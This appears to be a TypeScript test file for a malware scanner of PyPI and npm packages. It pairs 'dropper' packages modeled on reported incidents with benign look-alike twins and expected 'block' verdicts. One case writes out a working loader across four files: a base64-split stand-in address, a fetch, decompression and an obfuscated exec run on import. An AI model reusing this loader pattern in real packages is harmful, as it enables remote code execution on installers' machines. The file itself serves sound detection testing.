import {
  disguisedJavaScript,
  javascriptIncident,
  disguisedPython,
  pythonIncident,
} from '../../support/incident-programs.ts'
import { npm, type PackageCase, pypi, sdist, tarball, wheel, YOUNG } from '../../support/package-case.ts'

const num2words = 'from .base import num2words\n'
const base = 'WORDS = ["zero", "one", "two"]\ndef num2words(number):\n    return WORDS[number]\n'

/** What is fetched or unpacked and started: the program itself is elsewhere. */
export const droppers: readonly PackageCase[] = [
  {
    id: 'num2words',
    incident: 'num2words 0.5.15 on PyPI, July 2025: the import fetches code and runs it',
    project: pypi(
      'num2words',
      wheel('num2words', '0.5.15', {
        'num2words/__init__.py': `${num2words}${pythonIncident('num2words')}`,
        'num2words/base.py': base,
      }),
      {
        previous: wheel('num2words', '0.5.14', { 'num2words/__init__.py': num2words, 'num2words/base.py': base }),
      },
    ),
    expect: {
      verdict: 'block',
      story: 'runs-downloaded-code',
      text: /^On import, asks collect\.example and runs the answer as code \(exec\)/,
      steps: ['num2words/__init__.py:5'],
    },
    twin: pypi(
      'num2words',
      wheel('num2words', '0.5.15', {
        'num2words/__init__.py': num2words,
        'num2words/base.py': `${base}def currencies():\n    import urllib.request, json\n    return json.load(urllib.request.urlopen("https://rates.example/latest"))\n`,
      }),
      {
        previous: wheel('num2words', '0.5.14', { 'num2words/__init__.py': num2words, 'num2words/base.py': base }),
      },
    ),
  },
  {
    id: 'litellm 1.82.7',
    incident: 'litellm 1.82.7 on PyPI, March 2026: proxy_server.py writes what it decodes and starts it',
    project: pypi(
      'litellm',
      wheel('litellm', '1.82.7', {
        'litellm/__init__.py': 'def completion(model):\n    return model\n',
        'litellm/proxy/__init__.py': '',
        'litellm/proxy/proxy_server.py': pythonIncident('litellm 1.82.7'),
      }),
      {
        previous: wheel('litellm', '1.82.6', {
          'litellm/__init__.py': 'def completion(model):\n    return model\n',
          'litellm/proxy/__init__.py': '',
          'litellm/proxy/proxy_server.py': 'def serve():\n    return None\n',
        }),
      },
    ),
    expect: {
      verdict: 'block',
      story: 'runs-hidden-code',
      text: /^When one of its modules is loaded, decodes a constant of the package .* and (?:writes it as a program|starts it)/,
    },
    twin: pypi(
      'litellm',
      wheel('litellm', '1.82.7', {
        'litellm/__init__.py': 'def completion(model):\n    return model\n',
        'litellm/proxy/__init__.py': '',
        'litellm/proxy/proxy_server.py': `import base64, os, subprocess, sys, tempfile
LOGO = "${Buffer.from('<svg>a logo of the proxy, shown in its page</svg>'.repeat(6)).toString('base64')}"
def logo():
    path = os.path.join(tempfile.mkdtemp(), "logo.svg")
    with open(path, "wb") as f:
        f.write(base64.b64decode(LOGO))
    return path
def serve(port):
    subprocess.run([sys.executable, "-m", "uvicorn", "litellm.proxy.app:app", "--port", str(port)])
`,
      }),
      {
        previous: wheel('litellm', '1.82.6', {
          'litellm/__init__.py': 'def completion(model):\n    return model\n',
          'litellm/proxy/__init__.py': '',
          'litellm/proxy/proxy_server.py': 'def serve():\n    return None\n',
        }),
      },
    ),
  },
  {
    id: 'telnyx',
    incident: 'telnyx 4.87 on PyPI, March 2026: a program is taken out of the frames of a sound that is fetched',
    project: pypi(
      'telnyx',
      wheel('telnyx', '4.87.1', {
        'telnyx/__init__.py': 'from ._client import Client\n',
        'telnyx/_client.py': `class Client:\n    pass\n${pythonIncident('telnyx')}`,
      }),
      {
        previous: wheel('telnyx', '4.87.0', {
          'telnyx/__init__.py': 'from ._client import Client\n',
          'telnyx/_client.py': 'class Client:\n    pass\n',
        }),
      },
    ),
    expect: {
      verdict: 'block',
      story: 'runs-downloaded-code',
      text: /^On import, asks 203\.0\.113\.7 and starts what it was answered \(python\)/,
    },
    twin: pypi(
      'telnyx',
      wheel('telnyx', '4.87.1', {
        'telnyx/__init__.py': 'from ._client import Client\n',
        'telnyx/_client.py': `import os, wave, urllib.request
class Client:
    def __init__(self, key=None):
        self.key = key or os.environ.get("TELNYX_API_KEY")
    def recording(self, identifier, path):
        urllib.request.urlretrieve("https://api.telnyx.example/v2/recordings/" + identifier, path)
        with wave.open(path) as sound:
            return sound.readframes(sound.getnframes())
`,
      }),
      {
        previous: wheel('telnyx', '4.87.0', {
          'telnyx/__init__.py': 'from ._client import Client\n',
          'telnyx/_client.py': 'class Client:\n    pass\n',
        }),
      },
    ),
  },
  {
    id: 'a loader',
    incident: 'loaders on npm, 2024 to 2026 (Contagious Interview): what a host answers is run by the import',
    project: npm(
      'react-logger-pro',
      tarball(
        'react-logger-pro',
        '1.0.2',
        {
          'index.js': 'require("./lib/log");\nmodule.exports = console;\n',
          'lib/log.js': disguisedJavaScript('split names', javascriptIncident('a loader')),
        },
        { main: 'index.js' },
      ),
      { since: YOUNG },
    ),
    expect: {
      verdict: 'block',
      story: 'runs-downloaded-code',
      text: /^On import, asks code\.example and runs the answer as code \(eval\)/,
      steps: ['lib/log.js:3', 'lib/log.js:6'],
    },
    twin: npm(
      'react-logger-pro',
      tarball(
        'react-logger-pro',
        '1.0.2',
        {
          'index.js': 'module.exports = require("./lib/log");\n',
          'lib/log.js': `const https = require('https');
exports.level = (address, done) => https.get(address, (answer) => {
  let text = '';
  answer.on('data', (part) => { text += part; });
  answer.on('end', () => { done(JSON.parse(text).level); });
});
`,
        },
        { main: 'index.js' },
      ),
    ),
  },
  {
    id: 'a loader over four files',
    incident: 'the same in Python: address, request, decoding and running in files of their own',
    project: pypi(
      'http-tiny-tools',
      sdist('http-tiny-tools', '0.2.0', {
        'pyproject.toml':
          '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n[project]\nname = "http-tiny-tools"\nversion = "0.2.0"\n',
        'src/tiny/__init__.py': 'from .boot import ready\nready()\n',
        'src/tiny/settings.py': 'PARTS = ["aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUv", "bmV4dA=="]\n',
        'src/tiny/web.py':
          'import base64, urllib.request\nfrom .settings import PARTS\ndef text():\n    address = "".join(base64.b64decode(one).decode() for one in PARTS)\n    return urllib.request.urlopen(address).read()\n',
        'src/tiny/codec.py': 'import zlib\ndef plain(data):\n    return zlib.decompress(data).decode()\n',
        'src/tiny/boot.py':
          'from . import codec, web\ndef ready():\n    run = getattr(__builtins__, "ex" + "ec")\n    run(codec.plain(web.text()))\n',
      }),
      { since: YOUNG },
    ),
    expect: {
      verdict: 'block',
      story: 'runs-downloaded-code',
      text: /^On import, asks a host that is only known when it runs and runs the answer as code \(exec\)/,
      steps: ['src/tiny/web.py:5', 'src/tiny/boot.py:4'],
    },
    twin: pypi(
      'http-tiny-tools',
      sdist('http-tiny-tools', '0.2.0', {
        'pyproject.toml':
          '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n[project]\nname = "http-tiny-tools"\nversion = "0.2.0"\n',
        'src/tiny/__init__.py': 'from .web import text\n',
        'src/tiny/web.py':
          'import urllib.request\nfrom .codec import plain\ndef text(address):\n    return plain(urllib.request.urlopen(address).read())\n',
        'src/tiny/codec.py': 'import zlib\ndef plain(data):\n    return zlib.decompress(data).decode()\n',
      }),
    ),
  },
  {
    id: 'num2words, a look-alike exec',
    incident: 'the import of num2words, with letters that Python reads as others',
    project: pypi(
      'word-numbers',
      wheel('word-numbers', '1.0.0', {
        'word_numbers/__init__.py': disguisedPython('look-alike exec', pythonIncident('num2words')),
      }),
      { since: YOUNG },
    ),
    expect: {
      verdict: 'block',
      story: 'runs-downloaded-code',
      text: /^On import, asks collect\.example and runs the answer as code/,
    },
    twin: pypi(
      'word-numbers',
      wheel('word-numbers', '1.0.0', {
        'word_numbers/__init__.py': '𝜋 = 3.141592653589793\nα = 1 / 137\ndef größe(wert):\n    return wert * 𝜋\n',
      }),
    ),
  },
]
